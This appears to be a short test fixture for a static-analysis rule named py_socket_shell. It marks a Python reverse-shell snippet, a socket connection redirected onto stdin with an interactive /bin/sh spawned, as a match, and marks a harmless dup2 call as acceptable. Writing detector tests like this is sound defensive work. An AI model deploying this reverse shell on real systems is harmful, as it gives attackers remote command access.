import os, socket, subprocess
s = socket.socket()
s.connect((host, port))
# ruleid: py_socket_shell
os.dup2(s.fileno(), 0)
subprocess.call(['/bin/sh', '-i'])
# ok: py_socket_shell
os.dup2(log.fd, 2)
